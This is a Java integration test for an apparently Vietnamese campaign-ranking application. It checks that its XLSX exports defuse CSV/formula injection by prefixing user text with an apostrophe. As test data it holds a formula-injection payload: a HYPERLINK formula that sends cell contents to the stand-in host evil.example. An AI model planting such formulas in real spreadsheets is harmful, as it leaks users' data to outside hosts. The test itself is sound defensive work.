package vn.thidua.ranking;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import vn.thidua.campaign.Campaign;
import vn.thidua.campaign.CampaignApi;
import vn.thidua.campaign.CampaignStatus;
import vn.thidua.pledge.PledgeFixtures;
import vn.thidua.ranking.RankingFixtures.Ranked;
import vn.thidua.support.Fixtures;
import vn.thidua.support.IntegrationTest;

import java.io.ByteArrayInputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Issue 11: text a user typed that a spreadsheet would take for a formula (= + - @, a tab or a
 * carriage return first) is written with a leading apostrophe in every XLSX export (OWASP "CSV
 * injection"); numbers stay numbers, a negative total included.
 */
@IntegrationTest
class SpreadsheetFormulaTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";

    @Autowired
    RankingFixtures rankings;

    @Autowired
    PledgeFixtures pledges;

    @Autowired
    Fixtures fixtures;

    @Autowired
    CampaignApi api;

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    @Test
    void theRankingsAndTheSummaryWriteFormulaLikeNamesAsText() throws Exception {
        Ranked r = rankings.ranked(CampaignStatus.REVIEW);
        rename("individual", r.person("Nguyễn Văn An").getId(), "full_name", HYPERLINK);
        rename("individual", r.person("Ngô Thị Lan").getId(), "full_name", "+1 Ngô Thị Lan");
        rename("unit", r.y().getId(), "name", "@SUM(A1:A9)");
        rename("unit", r.x1().getId(), "name", "-2+3");
        jdbc.sql("update campaign set name = :name where id = :id").param("name", "=1+1 Đợt thi đua")
                .param("id", r.campaign().getId()).update();

        List<Row> people = sheet(download(r.board(), "/rankings/individuals.xlsx", r), 0);
        assertThat(text(people, 1)).isEqualTo("'=1+1 Đợt thi đua");
        Row an = rowWith(people, "'" + HYPERLINK);
        assertThat(an.getCell(4).getText()).isEqualTo(r.x().getName());
        Row lan = rowWith(people, "'+1 Ngô Thị Lan");
        assertThat(lan.getCell(4).getText()).isEqualTo("'-2+3");
        Row hai = rowWith(people, "Vũ Văn Hải");
        assertThat(hai.getCell(4).getText()).isEqualTo("'@SUM(A1:A9)");
        Cell total = hai.getCell(5);
        assertThat(total.getType()).as("a negative total is a number, not text").isEqualTo(CellType.NUMBER);
        assertThat(total.asNumber()).isEqualByComparingTo("-5");

        List<Row> units = sheet(download(r.board(), "/rankings/units.xlsx", r), 0);
        Row y = rowWith(units, "'@SUM(A1:A9)");
        assertThat(y.getCell(0).getType()).isEqualTo(CellType.NUMBER);
        assertThat(rowWith(units, "'-2+3")).isNotNull();

        List<String> summary = new ArrayList<>();
        byte[] summaryFile = download(r.board(), "/summary.xlsx", r);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(summaryFile))) {
            workbook.getSheets().forEach(sheet -> {
                try (var rows = sheet.openStream()) {
                    rows.forEach(row -> row.forEach(c -> summary.add(c == null ? "" : c.getText())));
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });
        }
        assertThat(summary).contains("'=1+1 Đợt thi đua", "'" + HYPERLINK, "'@SUM(A1:A9)")
                .doesNotContain("=1+1 Đợt thi đua", HYPERLINK, "@SUM(A1:A9)");
    }

    @Test
    void theRegistrationListWritesFormulaLikeTextAsText() throws Exception {
        PledgeFixtures.Org org = pledges.org();
        Campaign campaign = pledges.open("Đợt thi đua xuất danh sách " + Fixtures.unique(""));
        rename("individual", org.staffA1().getId(), "full_name", HYPERLINK);
        jdbc.sql("update individual set position = :p where id = :id").param("p", "+1 Chuyên viên")
                .param("id", org.staffA1b().getId()).update();
        jdbc.sql("update individual set position = :p where id = :id").param("p", "\tTab")
                .param("id", org.phongHead().getId()).update();
        rename("unit", org.phongA1().getId(), "name", "@SUM(A1:A9)");
        api.post(org.phongHeadUser(), pledges.collectiveBody(campaign, org.phongA1()), "/api/v1/campaigns/{id}/pledges",
                campaign.getId()).andExpect(status().isCreated());

        byte[] xlsx = mvc.perform(get("/campaigns/{id}/registrations.xlsx", campaign.getId())
                        .with(fixtures.as(org.vuHeadUser())))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        List<Row> rows = sheet(xlsx, 0);
        Row staff = rowWith(rows, "'" + HYPERLINK);
        assertThat(staff.getCell(3).getText()).isEqualTo("'@SUM(A1:A9)");
        assertThat(staff.getCell(0).getType()).isEqualTo(CellType.NUMBER);
        assertThat(rowWith(rows, "'+1 Chuyên viên")).isNotNull();
        assertThat(rowWith(rows, "'\tTab")).isNotNull();
        assertThat(rowWith(rows, "Lê Thị Vân").getCell(3).getText()).isEqualTo(org.vuA().getName());

        List<Row> collectives = sheet(xlsx, 1);
        assertThat(rowWith(collectives, "'@SUM(A1:A9)")).isNotNull();
    }

    private void rename(String table, Long id, String column, String value) {
        jdbc.sql("update " + table + " set " + column + " = :value where id = :id").param("value", value)
                .param("id", id).update();
    }

    private byte[] download(String user, String path, Ranked r) throws Exception {
        return api.get(user, "/api/v1/campaigns/{id}" + path, r.campaign().getId()).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsByteArray();
    }

    private static List<Row> sheet(byte[] xlsx, int index) throws Exception {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            return workbook.getSheets().toList().get(index).read();
        }
    }

    private static String text(List<Row> rows, int index) {
        return rows.get(index).getCell(0).getText();
    }

    /** The row with a cell of exactly this text. */
    private static Row rowWith(List<Row> rows, String text) {
        for (Row row : rows) {
            for (Cell cell : row) {
                if (cell != null && text.equals(cell.getText())) {
                    return row;
                }
            }
        }
        throw new AssertionError("no cell “" + text + "” in " + rows.stream().map(row -> {
            List<String> cells = new ArrayList<>();
            row.forEach(c -> cells.add(c == null ? "" : Optional.ofNullable(c.getText()).orElse("")));
            return cells;
        }).toList());
    }
}
